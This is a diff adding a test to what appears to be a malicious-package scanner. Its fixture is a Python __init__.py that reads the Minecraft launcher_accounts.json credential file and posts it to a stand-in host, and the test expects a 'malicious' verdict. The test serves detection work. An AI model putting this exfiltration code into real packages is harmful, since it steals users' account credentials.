@@ -187,3 +187,21 @@ test('python -c with code decoded from a computed value, and a download and run 
   });
   assert.equal(split.verdict, 'malicious', split.reason);
 });
+
+test('a helper that reads the file at the path it is given returns that file (credential files through helpers)', async () => {
+  const { score } = await scan({
+    'pkg/__init__.py': [
+      'import os, requests',
+      'def get(path):',
+      "    with open(path, 'rb') as f:",
+      '        return f.read()',
+      "data = get(os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json'))",
+      "requests.post('https://collector.example.invalid/u', files={'f': data})",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  const { score: cfg } = await scan({
+    'pkg/__init__.py': "import requests\ndef get(path):\n    return open(path).read()\nrequests.post('https://api.example.org/v1', data=get('settings.toml'))\n",
+  });
+  assert.notEqual(cfg.verdict, 'malicious', cfg.reason);
+});
